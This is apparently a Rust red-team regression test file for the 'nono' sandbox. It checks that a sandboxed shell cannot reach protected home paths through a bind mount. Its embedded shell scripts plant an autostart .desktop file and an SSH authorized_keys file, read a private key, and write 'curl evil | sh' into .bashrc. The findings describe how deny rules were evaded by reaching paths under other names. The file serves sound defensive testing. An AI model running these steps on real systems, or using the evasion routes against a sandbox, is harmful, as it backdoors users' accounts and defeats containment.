//! Red team 26: the leftovers of red team 23 (the deny groups' identity walk). See the
//! section "Red team 26 (session 15)" of docs/THREAT_MODEL.md.
//!
//! The layout: the user (root, outside the sandbox) has bind-mounted the directory that
//! holds their home (`/home` in real life, `s/homes` here) at `W/hs` inside a directory `W`
//! the sandbox is given with `--approve`. So `W/hs/u` is the home, `W/hs/u/.ssh` is `~/.ssh`
//! and `W/hs/u/.config` holds `~/.config/autostart`, each reached by a name that lies under
//! no deny entry: only the identity walk knows what they are.

use std::path::PathBuf;
use std::process::Command;

use crate::harness::{nono_cmd, output, Run, Scratch};
use crate::programs::marker;
use crate::redteam23::{bind, Mounts};

/// The scratch layout; the bind mount is undone before the scratch directory is removed.
struct Layout {
    home: PathBuf,
    w: PathBuf,
    mark: String,
    // Declared before `s`: dropped (unmounted) first.
    _mounts: Mounts,
    s: Scratch,
}

/// `s/homes/u` (the home: `.ssh/id` holding the marker, `.config/autostart/keep.desktop`,
/// `proj/`), `s/homes` bind-mounted at `W/hs`. `None` (the test is skipped) without root,
/// `mount` or the sandbox.
fn layout(tag: &str) -> Option<Layout> {
    if !crate::redteam23::can_mount() {
        return None;
    }
    let s = Scratch::new(tag);
    let mark = marker(tag);
    let homes = s.mkdir("homes");
    let home = s.mkdir("homes/u");
    s.write("homes/u/.ssh/id", &format!("{mark}\n"));
    s.write(
        "homes/u/.config/autostart/keep.desktop",
        "[Desktop Entry]\n",
    );
    s.write("homes/u/.config/other", "x\n");
    s.mkdir("homes/u/proj");
    let w = s.mkdir("w");
    let mountpoint = s.mkdir("w/hs");
    let mounts = Mounts(w.clone());
    if !bind(&homes, &mountpoint) {
        eprintln!("skipping: mount --bind failed");
        return None;
    }
    Some(Layout {
        home,
        w,
        mark,
        _mounts: mounts,
        s,
    })
}

/// What the command tries: replace `~/.config` (above the deny entry `~/.config/autostart`)
/// by a directory of its own holding `autostart/x.desktop`, and move the home (above
/// `~/.ssh`) aside to plant `.ssh/authorized_keys` in a new one at its name — each through
/// the mount, by names no deny entry lies under. Then ordinary renames, which must work.
const REPLACE: &str = r#"
h="$W/hs/u"
mkdir -p "$h/cfg/autostart" && echo pwned > "$h/cfg/autostart/x.desktop" && echo made-cfg
mv -T "$h/.config" "$h/config.old" && echo moved-config
mv -T "$h/cfg" "$h/.config" && echo replaced-config
mkdir "$h/proj/d" && mv "$h/proj/d" "$h/proj/d2" && echo plain-rename-in-mount
mkdir "$W/d" && mv "$W/d" "$W/d2" && echo plain-rename
mv -T "$W/hs/u" "$W/hs/u.old" && echo moved-home
mkdir -p "$W/hs/u/.ssh" && echo planted > "$W/hs/u/.ssh/authorized_keys" && echo planted-key
cat "$W/hs/u.old/.ssh/id" "$W/hs/u/.ssh/id" 2>/dev/null
true
"#;

impl Layout {
    /// `nono run --approve W -- /bin/sh -c SCRIPT`, `HOME` the scratch home.
    fn sh_in_nono(&self, script: &str) -> Run {
        let mut cmd = nono_cmd(&self.w);
        cmd.env("HOME", &self.home)
            .env("W", &self.w)
            .env_remove("XDG_CONFIG_HOME")
            .env_remove("XDG_DATA_HOME")
            .env_remove("XDG_CACHE_HOME")
            .args(["run", "--approve"])
            .arg(&self.w)
            .args(["--", "/bin/sh", "-c", script]);
        output(&mut cmd)
    }

    fn sh_bare(&self, script: &str) -> String {
        let out = Command::new("/bin/sh")
            .args(["-c", script])
            .env("W", &self.w)
            .current_dir(&self.w)
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    }
}

/// Finding 1 (pre-existing since runtime grants of path operations). With the directory
/// above the home mounted in the approved `W`, the command renamed `W/hs/u/.config` aside
/// and a directory of its own holding `autostart/x.desktop` into its name (the user's next
/// login runs it), and moved the home itself aside to make a new one holding
/// `.ssh/authorized_keys`: `refuse_moving` compared paths, and `W/hs/u/.config` has no deny
/// entry beneath it by name. Now a directory that is a deny entry or lies above one is
/// refused a rename (either name) or removal by its identity, and reported as the entry's.
/// Control: unsandboxed everything is replaced; ordinary renames still work under nono.
#[test]
fn redteam26_a_directory_above_a_deny_entry_reached_by_another_name_is_not_moved() {
    let Some(l) = layout("rt26-above") else {
        return;
    };
    let control = l.sh_bare(REPLACE);
    for line in ["replaced-config", "moved-home", "planted-key"] {
        assert!(control.contains(line), "control: {control}");
    }
    assert!(l.home.join(".ssh/authorized_keys").exists(), "control");
    drop(l);
    let Some(l) = layout("rt26-above") else {
        return;
    };
    let r = l.sh_in_nono(REPLACE);
    for line in [
        "moved-config",
        "replaced-config",
        "moved-home",
        "planted-key",
    ] {
        assert!(!r.stdout.contains(line), "{line}: {r}");
    }
    assert!(r.stdout.contains("made-cfg"), "{r}");
    assert!(r.stdout.contains("plain-rename-in-mount"), "{r}");
    assert!(r.stdout.contains("plain-rename"), "{r}");
    assert!(!r.stdout.contains(&l.mark), "{r}");
    assert!(
        l.home.join(".config/autostart/keep.desktop").exists(),
        "{r}"
    );
    assert!(!l.home.join(".config/autostart/x.desktop").exists(), "{r}");
    assert!(!l.home.join(".ssh/authorized_keys").exists(), "{r}");
    assert!(l.home.join(".ssh/id").exists(), "{r}");
    // Reported as the protection of an entry beneath (by its own path: the first one the
    // set knows under `~/.config`, under the home) that the move would change, with no
    // flag: lifting one entry leaves the others.
    let moves: Vec<&str> = r
        .stderr
        .lines()
        .filter(|l| l.contains("(renameat2"))
        .collect();
    assert_eq!(moves.len(), 2, "{r}");
    for (line, moved) in moves.iter().zip(["w/hs/u/.config", "w/hs/u"]) {
        let entry = format!("denied write of {}", l.s.s("homes/u/"));
        assert!(line.starts_with(&format!("nono: {entry}")), "{r}");
        assert!(line.contains(": deny group `"), "{r}");
        assert!(
            line.contains(&format!(
                "would remove, rename, replace or put a symlink at {}, which is it or a name above it",
                l.s.s(moved)
            )),
            "{r}"
        );
        assert!(line.contains("→ no flag grants it: "), "{r}");
        assert!(!line.contains("--bypass-protection"), "{r}");
    }
    for dir in ["w/hs/u ", "w/hs "] {
        assert!(
            !r.stderr.contains(&format!("--write {}", l.s.s(dir))),
            "{r}"
        );
    }
}

/// Finding 3. Red team 23's race (`W/B`, holding the mount of `~/.ssh` at `W/B/m`, renamed
/// away and back in a loop while the other thread makes `W/B/m/key-N`): a walk made while
/// `W/B` was gone is `Walked::Unread(ENOENT)`, and the call got `ENOENT` as from the kernel
/// — with no report line at all, so a user who wondered why had no hint. Now each such
/// refusal is reported, saying that the directory was gone when nono checked and with no
/// flag (none would help). Nothing is planted, as before.
#[test]
fn redteam26_a_walk_that_could_not_see_the_directory_is_reported_without_a_flag() {
    use crate::redteam23::{layout, strs};
    let Some(l) = layout("rt26-unread", 0, None) else {
        return;
    };
    for (op, call) in [("symlink", " (symlink) "), ("create", "")] {
        let out = l.walk_in_nono(None, &strs(&l.args("vanish", op, "B", "C", 20000)));
        assert_eq!(out.count("attempts"), 20000, "{op}: {}", out.run);
        assert_eq!(l.planted(), Vec::<String>::new(), "{op}: {}", out.run);
        let unread: Vec<&str> = out
            .run
            .stderr
            .lines()
            .filter(|x| x.contains("when nono checked it against the deny groups"))
            .collect();
        assert!(!unread.is_empty(), "{op}: {}", out.run);
        let prefix = format!("nono: denied write of {}/B/m/key-", l.w_s());
        for line in unread {
            assert!(line.starts_with(&prefix), "{line}");
            assert!(line.contains(call), "{line}");
            assert!(
                line.contains("→ no flag grants it: its directory was gone (renamed or removed)"),
                "{line}"
            );
            assert!(
                !line.contains("add --") && !line.contains("--write"),
                "{line}"
            );
        }
        l.clean();
    }
}

/// What the command tries when the home's deny entries `~/.config/autostart`, `~/.gemini`
/// (`settings.json`) and `~/.bashrc` do not exist: make them through the mount, by names no
/// entry lies under and with no identity any walk could meet. Then the same names made in a
/// directory of its own, which must work.
const MAKE: &str = r#"
h="$W/hs/u"
mkdir -p "$h/.config/autostart" && echo made-autostart
echo pwned > "$h/.config/autostart/x.desktop" && echo planted-desktop
mkdir "$h/.gemini" && echo made-gemini
mkdir "$h/g2" && echo '{}' > "$h/g2/settings.json" && mv -T "$h/g2" "$h/.gemini" && echo renamed-gemini
echo 'curl evil | sh' > "$h/.bashrc" && echo planted-bashrc
mkdir -p "$h/proj/.config/autostart" "$h/proj/.gemini" && echo x > "$h/proj/.bashrc" && echo own-names
true
"#;

/// Finding 4 (pre-existing since runtime grants walked identities). With the same mount, a
/// deny entry that does not exist yet was made through it: `mkdir -p
/// W/hs/u/.config/autostart` and a `.desktop` file in it, `W/hs/u/.gemini` (a directory
/// or a rename onto that name) and `W/hs/u/.bashrc` — the identity walk has no identity to
/// meet, and the path is under no entry. Now making the name of a missing entry (or of its
/// top missing directory) in the directory where it would be, by identity, is refused under
/// another name; by the entry's own path the checks by name decide, as before.
/// Control: unsandboxed everything is made; the same names elsewhere are made under nono.
#[test]
fn redteam26_a_missing_deny_entry_is_not_made_through_another_name() {
    let Some(l) = layout("rt26-make") else {
        return;
    };
    std::fs::remove_dir_all(l.home.join(".config/autostart")).unwrap();
    let control = l.sh_bare(MAKE);
    for line in [
        "planted-desktop",
        "made-gemini",
        "planted-bashrc",
        "own-names",
    ] {
        assert!(control.contains(line), "control: {control}");
    }
    drop(l);
    let Some(l) = layout("rt26-make") else {
        return;
    };
    std::fs::remove_dir_all(l.home.join(".config/autostart")).unwrap();
    let r = l.sh_in_nono(MAKE);
    for line in [
        "made-autostart",
        "planted-desktop",
        "made-gemini",
        "renamed-gemini",
        "planted-bashrc",
    ] {
        assert!(!r.stdout.contains(line), "{line}: {r}");
    }
    assert!(r.stdout.contains("own-names"), "{r}");
    for made in [".config/autostart", ".gemini", ".bashrc"] {
        assert!(!l.home.join(made).exists(), "{made}: {r}");
    }
    // Reported under the name made, with the entry's own path to make it by (where the
    // checks by name decide) and no flag.
    for made in [".config/autostart", ".gemini", ".bashrc"] {
        let head = format!("nono: denied write of {}", l.s.s(&format!("w/hs/u/{made}")));
        let own = format!(
            "it is {} reached by another name",
            l.home.join(made).display()
        );
        assert!(
            r.stderr.lines().any(|x| x.starts_with(&head)
                && x.contains(&own)
                && x.contains("deny group `")
                && x.contains("→ no flag grants it under this name")
                && !x.contains("--bypass-protection")),
            "{made}: {r}"
        );
    }
}
